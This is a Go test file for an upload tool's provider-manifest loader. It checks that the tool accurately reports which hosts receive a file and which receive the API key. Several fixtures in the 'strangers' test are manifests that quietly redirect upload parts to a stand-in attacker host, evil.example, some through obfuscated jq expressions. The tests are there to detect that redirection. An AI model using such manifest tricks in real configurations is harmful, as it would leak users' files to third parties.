package main

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/multiput/multiput/pkg/provider"
)

// TestSendsText holds what provider show tells of where a file and a key go.
func TestSendsText(t *testing.T) {
	own := filepath.Join(t.TempDir(), "own.yaml")
	err := os.WriteFile(own, []byte(`version: 1
name: own
base: https://api.example
auth: {header: X-Key, value: "{secret}", env: OWN_KEY}
create: {send: POST /u, keep: '{id, to: .to}'}
part: {send: PUT, url: '"https://store.example/\($upload.id)/\($part.number)"', receipt: $header.etag}
complete:
- {send: POST, url: '"https://other.example/end"', auth: false, ok: .ok}
- {send: POST, url: $upload.to, auth: false, ok: .ok, result: .id}
`), 0o600)
	if err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{
		"openai":                 "the file to https://api.openai.com, the key to https://api.openai.com alone",
		"upscayl":                "the file to the URLs that https://api.upscayl.org gives, the key to https://api.upscayl.org alone",
		"gallery/box":            "the file to https://upload.box.com, the key to https://upload.box.com alone",
		"gallery/dandi":          "the file to the URLs that https://api.dandiarchive.org gives, requests without the key to the URLs that https://api.dandiarchive.org gives, the key to https://api.dandiarchive.org alone",
		"gallery/azure-blob":     "the file to the API",
		"gallery/uploadcare":     "the file to https://upload.uploadcare.com and the URLs that https://upload.uploadcare.com gives, the key to https://upload.uploadcare.com alone",
		"gallery/illumina-ica":   "the file to URLs that the manifest makes of the API's replies, the key to https://use1.platform.illumina.com alone",
		"gallery/optimizely-cmp": "the file to the URLs that https://api.cmp.optimizely.com gives, the key to https://api.cmp.optimizely.com alone",
		own:                      "the file to https://store.example, requests without the key to https://other.example and the URLs that https://api.example gives, the key to https://api.example alone",
	} {
		d, err := provider.Load(name)
		if err != nil {
			t.Fatal(err)
		}
		if got := sendsText(d); got != want {
			t.Errorf("%s sends %s\nwant %s", name, got, want)
		}
	}
}

// TestSendsTextOfStrangers holds what is told about manifests that lead a file
// elsewhere than it looks.
func TestSendsTextOfStrangers(t *testing.T) {
	const (
		gives  = "the URLs that https://api.example gives"
		begin  = "version: 1\nname: own\nbase: https://api.example/v1\nauth: {header: X-Key, value: \"{secret}\", env: OWN_KEY}\n"
		create = "create: {send: POST /u, keep: '{id}'}\n"
		end    = "\ncomplete: {send: POST /e, ok: .ok, result: .id}\n"
	)
	for text, want := range map[string]string{
		create + `presign: {send: POST /p, max: 1, urls: '"https://evil.example/" + .x'}` + "\npart: {send: PUT, receipt: .e}":                                                     "https://evil.example",
		create + `presign: {send: POST /p, urls: '.u[] | {number: .n, url: "https://evil.example/\(.k)"}'}` + "\npart: {send: PUT, receipt: .e}":                                   "https://evil.example",
		create + `presign: {send: POST /p, urls: '.u[] | {number, url}'}` + "\npart: {send: PUT, receipt: .e}":                                                                     gives,
		create + `presign: {send: POST /p, urls: '.end as $end | .u | to_entries[] | {number: .key, url: .value}'}` + "\npart: {send: PUT, receipt: .e}":                           gives,
		create + `presign: {send: POST /p, urls: '"https://evil.example/x" as $to | .u[] | {number, url: $to}'}` + "\npart: {send: PUT, receipt: .e}":                              "https://evil.example",
		create + `presign: {send: POST /p, urls: '.u[] | sub("^"; "https://evil.example/")'}` + "\npart: {send: PUT, receipt: .e}":                                                 "URLs that the manifest makes of the API's replies and https://evil.example",
		create + `presign: {send: POST /p, urls: .u}` + "\npart: {send: PUT, auth: true, receipt: .e}":                                                                             "https://api.example",
		`create: {send: POST /u, keep: '{id, to: "https://evil.example/x"}'}` + "\npart: {send: PUT, url: $upload.to, receipt: .e}":                                                "https://evil.example",
		`create: {send: POST /u, keep: '{id} + {to: "https://evil.example/x"}'}` + "\npart: {send: PUT, url: $upload.to, receipt: .e}":                                             "https://evil.example",
		`create: [{send: POST /u, keep: 'capture("<(?<id>.*)>")'}, {send: POST /v, keep: '{to}'}]` + "\npart: {send: PUT, url: $upload.to, receipt: .e}":                           gives,
		`create: {send: POST /u, keep: '{id, to: $upload.at, at: $upload.to}'}` + "\npart: {send: PUT, url: $upload.to, receipt: .e}":                                              gives,
		`options: {to: {type: string, default: "https://opt.example/a", help: x}}` + "\n" + create + "part: {send: PUT, url: $options.to, receipt: .e}":                            "https://opt.example and the URL in the option to",
		create + `part: {send: PUT, url: '["https:", "", "evil.example"] | join("/")', receipt: .e}`:                                                                               "URLs that the manifest computes",
		create + `part: {send: PUT, url: '$base + "/x"', receipt: .e}`:                                                                                                             "https://api.example",
		create + `part: {send: PUT, url: '"p/\($part.number)"', receipt: .e}`:                                                                                                      "https://api.example",
		create + `part: {send: PUT, url: '$upload.to // "https://evil.example/x"', receipt: .e}`:                                                                                   "https://evil.example and " + gives,
		create + `part: {send: PUT, url: 'if $upload.a then $upload.a else "//evil.example/" end', receipt: .e}`:                                                                   "https://evil.example and " + gives,
		create + `part: {send: PUT /p, receipt: .e}` + "\nsmall: {max_size: 5MB, create: null, complete: null, part: {send: PUT, url: '\"https://small.example/x\"', result: .r}}": "https://api.example and https://small.example",
	} {
		path := filepath.Join(t.TempDir(), "own.yaml")
		if err := os.WriteFile(path, []byte(begin+text+end), 0o600); err != nil {
			t.Fatal(err)
		}
		d, err := provider.Load(path)
		if err != nil {
			t.Fatal(err)
		}
		if got := sendsText(d); got != "the file to "+want+", the key to https://api.example alone" {
			t.Errorf("%s\nsends %s\nwant the file to %s", text, got, want)
		}
	}
}

// TestPartsNeedKey holds whether another machine needs the key to send parts.
func TestPartsNeedKey(t *testing.T) {
	for text, want := range map[string]bool{
		"part: {send: PUT /p, receipt: .e}":                                                                        false,
		"part: {send: PUT /p, auth: true, receipt: .e}":                                                            true,
		"part: {send: PUT, url: $upload.at, receipt: .e}":                                                          false,
		"part: {send: PUT /p, receipt: .e, confirm: {send: POST /c}}":                                              true,
		"part: {send: PUT /p, receipt: .e, confirm: {send: POST, url: .next, auth: false}}":                        false,
		"part: {send: PUT /p, receipt: .e}\nsmall: {max_size: 5MB, part: {send: PUT /s, auth: true, receipt: .e}}": true,
	} {
		path := filepath.Join(t.TempDir(), "own.yaml")
		own := "version: 1\nname: own\nbase: https://api.example\nauth: {header: X-Key, value: \"{secret}\", env: OWN_KEY}\n" +
			"create: {send: POST /u, keep: '{id, at}'}\ncomplete: {send: POST /e, ok: .ok, result: .id}\n"
		if err := os.WriteFile(path, []byte(own+text), 0o600); err != nil {
			t.Fatal(err)
		}
		d, err := provider.Load(path)
		if err != nil {
			t.Fatal(err)
		}
		if d.PartsNeedKey != want {
			t.Errorf("%s: %t", text, d.PartsNeedKey)
		}
	}
}
